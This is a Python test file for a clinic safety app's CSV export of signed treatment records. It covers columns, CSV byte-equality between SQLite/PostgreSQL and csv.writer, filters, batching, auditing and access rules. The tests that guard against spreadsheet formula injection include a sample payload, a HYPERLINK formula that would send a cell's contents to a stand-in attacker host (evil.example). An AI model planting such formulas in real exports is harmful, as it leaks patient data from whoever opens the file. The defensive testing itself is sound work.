"""The CSV export of signed records against a real database: its columns and cells, the
database's CSV (SQLite's printed lines, PostgreSQL's COPY) byte for byte as csv.writer's, its
filters and scope, its batches and its audit event."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from conftest import PASSWORD
from review_helpers import NOW, read_csv, read_records_csv
from sqlalchemy import create_engine, event, func, literal, select
from sqlalchemy.dialects import postgresql

from safety.audit.models import AuditEvent
from safety.checklists import addenda
from safety.checklists import services as checklists
from safety.checklists.models import TreatmentSession
from safety.errors import Forbidden
from safety.extensions import db
from safety.review import csvsql, export
from safety.review.rules.export import EXPORT_METADATA
from safety.review.rules.records import RecordFilters

pytest_plugins = ["review_world"]


def test_the_csv_has_a_column_per_linkid_and_a_row_per_signed_record(cast, small_history):
    lines = export.export_csv(cast.officer, RecordFilters(), now=NOW)
    db.session.commit()
    rows = read_records_csv(lines)

    header = rows[0]
    assert header[: len(EXPORT_METADATA)] == list(EXPORT_METADATA)
    template = checklists.template_for(db.session.get(TreatmentSession, small_history["painful"]))
    assert header[len(EXPORT_METADATA) :] == [item.link_id for item in template.items]
    assert sorted(int(r[0]) for r in rows[1:]) == sorted(
        small_history[name] for name in small_history if name not in ("overdue", "in_progress")
    )
    assert all(len(r) == len(header) for r in rows)


def test_the_csv_cells_read_as_a_person_would_write_them(cast, small_history):
    rows = read_records_csv(export.export_csv(cast.officer, RecordFilters(), now=NOW))
    record = db.session.get(TreatmentSession, small_history["prolonged"])
    row = dict(zip(rows[0], next(r for r in rows if r[0] == str(record.id)), strict=True))

    assert row["clinic"] == "Harbour Physio"
    assert row["practitioner"] == "Ada Author"
    assert row["signed_by_id"] == str(record.signed_by_id) == str(cast.ada.id)
    assert row["session_date"] == "2026-02-04"
    assert row["signed_utc"] == "2026-02-04T10:30:00Z"
    assert row["content_hash"] == record.content_hash
    assert row["flags"] == "high:prolonged_bleeding"
    assert row["signin.authorised"] == "yes"
    assert row["signin.anticoagulant"] == "no"
    assert row["signin.regions"] == "lumbar;hip"
    assert row["signin.bleeding_precaution"] == ""
    assert row["signout.needles_used"] == "6"
    assert row["timeout.needle_lot"] == "LOT-2611A"
    assert row["signout.bleeding"] == "prolonged"


def test_free_text_that_looks_like_a_formula_is_exported_as_text(cast, make_record):
    record_id = make_record(
        cast.ada,
        cast.pat,
        day=date(2026, 3, 2),
        answers={"timeout.needle_lot": ['=HYPERLINK("http://x")']},
    )

    rows = read_records_csv(export.export_csv(cast.officer, RecordFilters(), now=NOW))
    row = dict(zip(rows[0], next(r for r in rows if r[0] == str(record_id)), strict=True))

    assert row["timeout.needle_lot"] == '\'=HYPERLINK("http://x")'


def test_the_csv_names_its_columns_for_people_and_carries_patient_notes_and_addenda(
    cast, make_record
):
    record_id = make_record(
        cast.ada,
        cast.pat,
        day=date(2026, 3, 2),
        answers={"timeout.skin_prepared": ["no"], "timeout.skin_prepared.note": ["wiped twice"]},
    )
    addenda.add_addendum(
        cast.ada,
        record_id,
        reason="Late entry",
        body="Patient rang: the bruise has faded.",
        password=PASSWORD,
    )
    db.session.commit()

    people, keys, *rows = read_csv(export.export_csv(cast.officer, RecordFilters(), now=NOW))
    named = dict(zip(keys, people, strict=True))
    row = dict(zip(keys, next(r for r in rows if r[0] == str(record_id)), strict=True))

    assert named["record_id"] == "Record" and named["patient_id"] == "Patient ID"
    assert named["timeout.skin_prepared"] != "timeout.skin_prepared"  # the question, in words
    assert row["patient_id"] == str(cast.pat.id)
    assert row["template_version"] != ""
    assert "wiped twice" in row["notes"]
    assert row["addenda"] == "Ada Author (Late entry): Patient rang: the bruise has faded."


def written_by_the_csv_module(query) -> str:
    """What csv.writer writes for the export's rows: the reference for the database's CSV."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(export.export_columns())
    writer.writerows(db.session.execute(query).all())
    return buffer.getvalue()


def test_the_database_writes_the_csv_the_csv_module_would(cast, small_history, make_record):
    # SQLite prints each line itself and PostgreSQL's COPY writes the CSV; both must match
    # csv.writer byte for byte, quotes, commas and line breaks inside cells included.
    # Each separator alone in some cell, so that each one on its own must cause quoting.
    make_record(
        cast.ada,
        cast.pat,
        day=date(2026, 3, 3),
        answers={
            "timeout.needle_lot": ['LOT "7" box 2 ✓'],
            "timeout.skin_prepared": ["no"],
            "timeout.skin_prepared.note": ["wiped twice"],
            "signin.anticoagulant": ["yes"],
            "signin.bleeding_precaution": ["=pressure, then wait"],
        },
    )
    # A lot cannot hold a line break (issue 15 refuses it); a precaution typed in a box can.
    for day, text in ((4, "box 2\nsecond line"), (5, "box 3\rsecond line")):
        make_record(
            cast.ada,
            cast.pat,
            day=date(2026, 3, day),
            answers={"signin.anticoagulant": ["yes"], "signin.bleeding_precaution": [text]},
        )
    for filters in (RecordFilters(clinic_id=cast.harbour.id, flag="any"), RecordFilters()):
        query = export.export_query(cast.officer, filters, now=NOW)

        people, *lines, checkpoint = export.export_csv(cast.officer, filters, now=NOW)
        written = "".join(lines)

        assert written == written_by_the_csv_module(query)
        assert checkpoint == 'NeedleSafe audit checkpoint,"none yet"\r\n'
    assert '"LOT ""7"" box 2 ✓"' in written
    assert '"box 2\nsecond line"' in written  # a line feed in a cell stays as it is


def test_sqlite_prints_lines_of_any_width_as_the_csv_module_would():
    # SQLite takes at most 127 arguments per function call: a wide line is printed in parts.
    row = [None, "", 42, "plain", 'say "hi"', "a,b", "two\nlines", "cr\rhere", "✓ é", *range(300)]
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerow(row)
    line = csvsql.CsvLine(*(csvsql.CsvField(literal(value)) for value in row))

    with create_engine("sqlite://").connect() as connection:
        printed = connection.execute(select(line)).scalar_one()

    assert printed + "\r\n" == buffer.getvalue()


def test_the_csv_respects_the_record_filters(cast, small_history):
    rows = read_records_csv(
        export.export_csv(cast.officer, RecordFilters(clinic_id=cast.lakeside.id), now=NOW)
    )

    assert {int(r[0]) for r in rows[1:]} == {
        small_history["clean_mar"],
        small_history["minor_and_pain"],
    }


def test_the_csv_streams_in_batches_with_the_same_rows(cast, small_history, monkeypatch):
    whole = read_records_csv(export.export_csv(cast.officer, RecordFilters(), now=NOW))
    monkeypatch.setattr(csvsql, "EXPORT_BATCH", 3)

    chunks = list(export.export_csv(cast.officer, RecordFilters(), now=NOW))

    # The people's header, the keys' header, 8 rows in batches of 3, 3 and 2, the checkpoint.
    assert len(chunks) == 1 + 1 + 3 + 1
    assert read_records_csv(chunks) == whole


def test_the_export_is_audited_with_its_filters(cast, small_history):
    export.export_csv(cast.officer, RecordFilters(clinic_id=cast.harbour.id), now=NOW)
    db.session.commit()

    event = db.session.scalar(select(AuditEvent).where(AuditEvent.action == "export.csv"))
    assert event.actor_id == cast.officer.id
    assert event.details["filters"] == {"clinic": str(cast.harbour.id)}


def test_only_compliance_officers_export(cast, small_history):
    with pytest.raises(Forbidden):
        export.export_csv(cast.ada, RecordFilters(), now=NOW)
    assert db.session.scalar(select(func.count()).where(AuditEvent.action == "export.csv")) == 0


def test_the_same_patient_scope_applies_to_the_export_as_to_the_list(cast, small_history):
    rows = read_records_csv(
        export.export_csv(cast.officer, RecordFilters(patient_id=cast.quinn.id), now=NOW)
    )

    assert {int(r[0]) for r in rows[1:]} == {
        small_history["clean_feb"],
        small_history["large_bruise"],
    }


# --- binding COPY's parameters ---------------------------------------------------------------

LONDON_MORNING = datetime(2026, 3, 30, 10, 0, tzinfo=ZoneInfo("Europe/London"))


def times_and_lots():
    """A query with IN lists (one of a type that processes its values) and a plain parameter."""
    times = [LONDON_MORNING, LONDON_MORNING + timedelta(hours=1)]
    return select(TreatmentSession.id).where(
        TreatmentSession.signed_dt.in_(times),
        TreatmentSession.clinic_id.in_([3, 4]),
        TreatmentSession.needle_lot == "HW'2611",
    )


def test_copy_binds_each_element_of_an_in_list_through_its_type():
    statement, parameters = csvsql.driver_statement(times_and_lots(), postgresql.psycopg.dialect())

    assert all(f"%({name})s" in statement for name in parameters)
    times = [v for v in parameters.values() if isinstance(v, datetime)]
    assert times == [LONDON_MORNING, LONDON_MORNING + timedelta(hours=1)]
    assert all(t.tzinfo is UTC for t in times)  # UTCDateTime's processor ran on each element
    assert sorted(v for v in parameters.values() if isinstance(v, int)) == [3, 4]
    assert "HW'2611" in parameters.values()


def test_copy_refuses_a_naive_time_in_an_in_list_as_execute_does():
    on_the_wall = datetime(2026, 3, 30, 10, 0)
    naive = select(TreatmentSession.id).where(TreatmentSession.signed_dt.in_([on_the_wall]))

    with pytest.raises(ValueError, match="naive"):
        csvsql.driver_statement(naive, postgresql.psycopg.dialect())


def test_copy_binds_the_very_values_the_database_receives_from_execute(app):
    connection = db.session.connection()
    sent = []

    def capture(conn, cursor, statement, parameters, context, executemany):
        sent.append(parameters)

    # The connection's own engine: on PostgreSQL the tests run on one held connection.
    event.listen(connection.engine, "before_cursor_execute", capture)
    try:
        connection.execute(times_and_lots()).all()
    finally:
        event.remove(connection.engine, "before_cursor_execute", capture)
    _statement, parameters = csvsql.driver_statement(times_and_lots(), connection.dialect)

    received = sent[0].values() if isinstance(sent[0], dict) else sent[0]
    assert sorted(map(repr, received)) == sorted(map(repr, parameters.values()))


def test_the_csv_names_every_lot_a_session_opened_first_pack_first(cast, make_record):
    record_id = make_record(
        cast.ada,
        cast.pat,
        day=date(2026, 3, 6),
        answers={
            "timeout.needle_lot": ["=A1"],
            "timeout.pack2.lot": ["hw-2611a"],
            "timeout.pack2.expiry": ["2030-01-01"],
        },
    )
    rows = read_records_csv(export.export_csv(cast.officer, RecordFilters(), now=NOW))
    row = dict(zip(rows[0], next(r for r in rows if r[0] == str(record_id)), strict=True))

    # The lot that looks like a formula is guarded, like every typed cell.
    assert row["needle_lots"] == "'=A1; hw-2611a"
    assert row["timeout.needle_lot"] == "'=A1"


def test_a_question_two_versions_ask_in_different_phases_names_its_phase(app):
    """Version 1 asks about pain during needling at Time out and version 2 at Sign out: the
    people's header row tells the two columns apart, so an empty cell on a version-2 row is
    not read as pain never recorded."""
    from safety.risks import services as risks

    risks.publish_default(via="test", register_version=1)
    risks.publish_default(via="test")
    db.session.commit()

    named = dict(zip(export.export_columns(), export.export_labels(), strict=True))

    assert named["timeout.pain_during"] != named["signout.pain_during"]
    assert named["timeout.pain_during"].endswith("(Time out)")
    assert named["signout.pain_during"].endswith("(Sign out)")
    questions = [label for key, label in named.items() if key not in EXPORT_METADATA]
    assert len(questions) == len(set(questions))


def test_an_unpublished_draft_changes_neither_the_columns_nor_the_questions(app):
    """An administrator's draft is nobody's record: it once added its own column to the
    compliance officer's CSV and put its new words over the published question."""
    from safety.risks import editor
    from safety.risks import services as risks

    published, _ = risks.publish_default(via="test")
    db.session.commit()
    before = dict(zip(export.export_columns(), export.export_labels(), strict=True))
    draft = editor.copy_version(published.id, actor=None)
    editor.add_own_item(
        draft.id, phase_id="timeout", text="Couch paper changed.", reason="Clinic rule", actor=None
    )
    editor.reword_item(draft.id, "signin.lying_down", "Lying down, watched.", actor=None)
    db.session.commit()

    assert dict(zip(export.export_columns(), export.export_labels(), strict=True)) == before


def test_a_question_worded_as_a_formula_heads_its_column_as_text(app):
    """The people's header row is an administrator's text: a question written as a formula
    must not run in the spreadsheet that opens the evidence."""
    from safety.risks import editor
    from safety.risks import services as risks

    published, _ = risks.publish_default(via="test")
    draft = editor.copy_version(published.id, actor=None)
    formula = '=HYPERLINK("http://evil.example/?leak="&C3,"Open")'
    link_id = editor.add_own_item(
        draft.id, phase_id="signout", text=formula, reason="Clinic rule", actor=None
    )
    risks.publish(draft.id, actor=None)
    db.session.commit()

    named = dict(zip(export.export_columns(), export.export_labels(), strict=True))

    assert named[link_id] == "'" + formula
